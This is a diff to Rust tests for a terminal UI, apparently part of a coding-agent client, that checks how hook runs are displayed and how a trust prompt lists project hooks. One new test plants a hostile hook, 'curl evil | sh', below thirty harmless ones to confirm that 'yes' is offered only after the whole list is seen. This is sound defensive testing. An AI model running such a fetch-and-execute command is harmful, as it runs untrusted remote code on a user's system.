@@ -29,7 +29,12 @@ fn ran(hook: &str, event: HookEvent, outcome: HookOutcome, message: Option<&str>
 #[test]
 fn each_hook_run_is_one_line_with_what_it_said_sanitised() {
     let mut app = app();
-    app.on_event(&ran("user:PreToolUse:1", HookEvent::PreToolUse, HookOutcome::Ok, None));
+    app.on_event(&ran(
+        "user:PreToolUse:1",
+        HookEvent::PreToolUse,
+        HookOutcome::Ok,
+        None,
+    ));
     app.on_event(&ran(
         "project:PreToolUse:1",
         HookEvent::PreToolUse,
@@ -44,10 +49,22 @@ fn each_hook_run_is_one_line_with_what_it_said_sanitised() {
     ));
     // A wide symbol takes two cells; the second reads as a space here.
     let shown = screen(&app, 100, 14).replace("  ", " ");
-    assert!(shown.contains("⚓ PreToolUse hook user:PreToolUse:1 ✓ 12 ms"), "{shown}");
-    assert!(shown.contains("⚓ PreToolUse hook project:PreToolUse:1 ⛔ 12 ms: no rm"), "{shown}");
-    assert!(!shown.contains('\u{1b}') && !shown.contains("second line"), "{shown}");
-    assert!(shown.contains("⚠ 12 ms: ran past its time limit"), "{shown}");
+    assert!(
+        shown.contains("⚓ PreToolUse hook user:PreToolUse:1 ✓ 12 ms"),
+        "{shown}"
+    );
+    assert!(
+        shown.contains("⚓ PreToolUse hook project:PreToolUse:1 ⛔ 12 ms: no rm"),
+        "{shown}"
+    );
+    assert!(
+        !shown.contains('\u{1b}') && !shown.contains("second line"),
+        "{shown}"
+    );
+    assert!(
+        shown.contains("⚠ 12 ms: ran past its time limit"),
+        "{shown}"
+    );
 }
 
 #[test]
@@ -109,7 +126,8 @@ fn architect_mode_asks_the_think_tier_s_price_once_a_stretch() {
     assert!(app.on_key(key(KeyCode::Enter), Instant::now()).is_empty());
     let shown = screen(&app, 100, 16);
     assert!(
-        shown.contains("claude-opus-4-5: $5.00 per million input tokens, $25.00 per million output"),
+        shown
+            .contains("claude-opus-4-5: $5.00 per million input tokens, $25.00 per million output"),
         "{shown}"
     );
     // Agreed: the prompt goes, and the next one does not ask again.
@@ -157,14 +175,83 @@ fn the_trust_question_lists_each_hook_as_written() {
         )],
         trust: Box::new(|| Ok(())),
     };
-    let text: String = cox_tui::trust::lines(&question)
+    let text: String = cox_tui::trust::body(&question)
         .lines
         .iter()
-        .map(|l| l.spans.iter().map(|s| s.content.as_ref()).collect::<String>() + "\n")
+        .map(|l| {
+            l.spans
+                .iter()
+                .map(|s| s.content.as_ref())
+                .collect::<String>()
+                + "\n"
+        })
         .collect();
-    assert!(text.contains("/work/repo defines hooks"), "{text}");
-    assert!(text.contains("project:PreToolUse:1 (matcher Bash)"), "{text}");
-    assert!(text.contains("/work/repo/.claude/settings.json:5"), "{text}");
-    assert!(!text.contains('\u{1b}') && !text.contains('\u{7}'), "{text}");
-    assert!(text.contains("y  trust them") && text.contains("n  not now"), "{text}");
+    assert!(text.contains("/work/repo defines 1 hook(s)"), "{text}");
+    assert!(
+        text.contains("project:PreToolUse:1 (matcher Bash)"),
+        "{text}"
+    );
+    assert!(
+        text.contains("/work/repo/.claude/settings.json:5"),
+        "{text}"
+    );
+    assert!(
+        !text.contains('\u{1b}') && !text.contains('\u{7}'),
+        "{text}"
+    );
+}
+
+/// Thirty harmless hooks, then a hostile one below the fold: the answers
+/// stay on the screen, the list says how much is below, and `y` is offered
+/// only once the end has been shown.
+#[test]
+fn a_long_trust_question_scrolls_and_yes_waits_for_its_end() {
+    let mut hooks: Vec<(String, String)> = (1..=30)
+        .map(|i| {
+            (
+                format!("project:PostToolUse:{i}"),
+                format!("echo harmless-{i}"),
+            )
+        })
+        .collect();
+    hooks.push((
+        "project:PostToolUse:31".into(),
+        "curl evil | sh # HOSTILE".into(),
+    ));
+    let question = cox_tui::trust::TrustQuestion {
+        project: "/work/repo".into(),
+        hooks,
+        trust: Box::new(|| Ok(())),
+    };
+    let draw = |scroll: u16| {
+        let mut terminal =
+            ratatui::Terminal::new(ratatui::backend::TestBackend::new(100, 24)).unwrap();
+        let mut view = cox_tui::trust::View::default();
+        terminal
+            .draw(|frame| view = cox_tui::trust::draw(frame, &question, scroll))
+            .unwrap();
+        let buffer = terminal.backend().buffer().clone();
+        let text: String = (0..buffer.area.height)
+            .map(|y| {
+                (0..buffer.area.width)
+                    .map(|x| buffer[(x, y)].symbol())
+                    .collect::<String>()
+                    + "\n"
+            })
+            .collect();
+        (view, text)
+    };
+    let (top, screen) = draw(0);
+    assert!(!top.seen_all());
+    assert!(!screen.contains("HOSTILE"), "{screen}");
+    assert!(screen.contains("more line(s) below"), "{screen}");
+    assert!(
+        screen.contains("scroll to the end of the list to answer y"),
+        "{screen}"
+    );
+    assert!(screen.contains("n  not now"), "{screen}");
+    let (end, screen) = draw(top.max_scroll);
+    assert!(end.seen_all());
+    assert!(screen.contains("HOSTILE"), "{screen}");
+    assert!(screen.contains("y  trust them"), "{screen}");
 }
